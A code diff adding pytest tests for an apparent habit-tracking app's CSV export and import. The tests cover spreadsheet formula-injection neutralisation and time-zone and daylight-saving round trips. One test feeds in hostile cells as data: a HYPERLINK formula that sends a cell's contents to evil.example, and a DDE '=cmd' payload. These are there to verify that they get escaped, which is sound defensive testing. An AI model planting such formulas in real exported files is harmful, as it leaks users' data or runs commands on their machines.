@@ -297,3 +297,122 @@ def test_a_hostile_journal_dose_is_refused_with_its_ingestion(utc_settings, tmp_
         "experience 2, ingestion 1: units must be text, not a list",
         "experience 3, ingestion 1: a field kept with the entry holds a number that is not finite"]
     assert preview.entries == 1
+
+
+# --- CSV: formula injection and time zones -----------------------------------------------
+
+def test_csv_text_cells_cannot_run_as_formulas_and_round_trip_exactly(utc_settings,
+                                                                      tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A2,"click me")'
+    add_custom(utc_settings, "=cmd|' /C calc'!A0", "times")
+    entries.log(utc_settings, "=cmd|' /C calc'!A0", 2, at=aware(2025, 5, 1, 21, 15), note=hostile,
+                triggers=["+SUM(1,2)", "plain"], setting="@home", cost=3.5)
+    entries.log(utc_settings, "alcohol", 1, at=aware(2025, 5, 2, 21, 15), note="-5 on last week",
+                practices=["\u2212 not a minus"], setting="'=already quoted")
+    entries.log(utc_settings, "alcohol", 0, at=aware(2025, 5, 3, 21, 15), urge_only=True,
+                craving=4, note="''two apostrophes", setting="'plain apostrophe")
+    out = export.write_export(utc_settings, "csv", tmp_path / "e.csv")
+    text = out.read_text(encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(text)))[1:]
+    danger = ("=", "+", "-", "@", "\t", "\r")
+    text_columns = [i for i, c in enumerate(export.CSV_COLUMNS) if c in export.CSV_TEXT_COLUMNS]
+    for row in rows:
+        assert not any(row[i].startswith(danger) for i in text_columns), row
+    assert rows[0][export.CSV_COLUMNS.index("note")] == "'" + hostile
+    assert rows[0][export.CSV_COLUMNS.index("trackable")] == "'=cmd|' /C calc'!A0"
+    assert rows[1][export.CSV_COLUMNS.index("setting")] == "''=already quoted"
+    assert rows[2][export.CSV_COLUMNS.index("setting")] == "'plain apostrophe"  # nothing to undo
+    # Numbers stay numbers: written bare, never prefixed or quoted.
+    assert ',2,"times",' in text and ',3.5,' in text and ',4,' in text
+
+    fresh = open_data_folder(tmp_path / "fresh")
+    update_settings(fresh, timezone="UTC")
+    result = importers.run_import(fresh, out)
+    assert result.entries == 3 and result.refused == []
+    got = [(e.trackable, e.note, e.triggers, e.practices, e.setting) for e in entries.list_entries(fresh)]
+    assert got == [("=cmd|' /C calc'!A0", hostile, ("+SUM(1,2)", "plain"), (), "@home"),
+                   ("Alcohol", "-5 on last week", (), ("\u2212 not a minus",), "'=already quoted"),
+                   ("Alcohol", "''two apostrophes", (), (), "'plain apostrophe")]
+    again = export.write_export(fresh, "csv", tmp_path / "again.csv")
+    assert again.read_text(encoding="utf-8") == text
+    fresh.close()
+
+
+def test_neutralised_cells_restore_exactly() -> None:
+    for cell in ["=1", "'=1", "''=1", "'", "''", "'x", "x'", "", "-", "@", "\t1", "plain", "'\r"]:
+        assert export.restore_cell(export.neutralise(cell)) == cell, cell
+        assert not export.neutralise(cell).startswith(export.FORMULA_STARTS)
+
+
+BERLIN = "Europe/Berlin"
+
+
+def _berlin_entries(db) -> None:  # type: ignore[no-untyped-def]
+    update_settings(db, timezone=BERLIN, day_start_hour=4)
+    # Logged on a trip (Tokyo, New York): the offset stays with the entry.
+    entries.log(db, "alcohol", 1, at=aware(2025, 3, 29, 8, 0, "Asia/Tokyo"))
+    entries.log(db, "alcohol", 2, at=aware(2025, 3, 28, 22, 30, "America/New_York"))
+    # The night clocks went forward (02:00 → 03:00) and the night they went back.
+    entries.log(db, "alcohol", 3, at=aware(2025, 3, 30, 1, 30, BERLIN))
+    entries.log(db, "alcohol", 4, at=aware(2025, 3, 30, 3, 30, BERLIN))
+    for n, hours in ((5, 2), (6, 1)):  # 02:30 twice: first at +02:00, an hour later at +01:00
+        entries.log(db, "alcohol", n, at=dt.datetime(2025, 10, 26, 2, 30,
+                                                     tzinfo=dt.timezone(dt.timedelta(hours=hours))))
+
+
+def test_csv_date_and_time_are_the_users_zone_and_name_the_real_moment(db, tmp_path: Path) -> None:
+    from zoneinfo import ZoneInfo
+
+    _berlin_entries(db)
+    out = export.write_export(db, "csv", tmp_path / "e.csv")
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    berlin = ZoneInfo(BERLIN)
+    got = [(r["date"], r["time"], r["occurred_at"]) for r in rows]
+    assert got == [
+        ("2025-03-28", "00:00", "2025-03-29T08:00:00+09:00"),  # midnight in Berlin, before 04:00
+        ("2025-03-28", "03:30", "2025-03-28T22:30:00-04:00"),  # 03:30 in Berlin, before 04:00
+        ("2025-03-29", "01:30", "2025-03-30T01:30:00+01:00"),
+        ("2025-03-29", "03:30", "2025-03-30T03:30:00+02:00"),
+        ("2025-10-25", "02:30", "2025-10-26T02:30:00+02:00"),
+        ("2025-10-25", "02:30", "2025-10-26T02:30:00+01:00"),
+    ]
+    for r in rows:
+        instant = dt.datetime.fromisoformat(r["occurred_at"])
+        clock = dt.time.fromisoformat(r["time"])
+        calendar = dt.date.fromisoformat(r["date"]) + dt.timedelta(days=clock.hour < 4)
+        # date + time is the wall-clock moment in Berlin of the instant (never one that
+        # did not happen), and the day matches the one the app counts the entry for.
+        assert dt.datetime.combine(calendar, clock) == instant.astimezone(berlin).replace(tzinfo=None)
+    assert [e.day.isoformat() for e in entries.list_entries(db)] == [r["date"] for r in rows]
+
+
+def test_csv_round_trip_across_zones_and_dst_is_exact(db, tmp_path: Path) -> None:
+    _berlin_entries(db)
+    out = export.write_export(db, "csv", tmp_path / "e.csv")
+    fresh = open_data_folder(tmp_path / "fresh")
+    update_settings(fresh, timezone=BERLIN, day_start_hour=4)
+    assert importers.run_import(fresh, out).entries == 6
+    again = export.write_export(fresh, "csv", tmp_path / "again.csv")
+    assert again.read_text(encoding="utf-8") == out.read_text(encoding="utf-8")
+    same = [(e.occurred_at, e.day, e.amount) for e in entries.list_entries(fresh)]
+    assert same == [(e.occurred_at, e.day, e.amount) for e in entries.list_entries(db)]
+    fresh.close()
+
+
+def test_csv_with_only_date_and_time_counts_night_entries_for_the_day_before(db,
+                                                                             tmp_path: Path) -> None:
+    update_settings(db, timezone=BERLIN, day_start_hour=4)
+    f = tmp_path / "sheet.csv"
+    f.write_text("date,time,trackable,amount\n2025-03-29,01:30,Alcohol,1\n2025-03-29,23:00,Alcohol,2\n",
+                 encoding="utf-8")
+    importers.run_import(db, f)
+    got = [(e.day, e.occurred_at.astimezone(dt.UTC).isoformat()) for e in entries.list_entries(db)]
+    assert got == [(dt.date(2025, 3, 29), "2025-03-29T22:00:00+00:00"),
+                   (dt.date(2025, 3, 29), "2025-03-30T00:30:00+00:00")]
+
+
+def test_a_loop_file_with_a_stray_carriage_return_is_refused_with_its_line(db, tmp_path: Path) -> None:
+    f = tmp_path / "Checkmarks.csv"
+    f.write_bytes(b"Date,Walk,\n2025-01-05,2,\n\r025-01-04,2,\n")
+    with pytest.raises(ImportRefused, match="cannot be read at line 3"):
+        importers.preview(db, f, "loop")
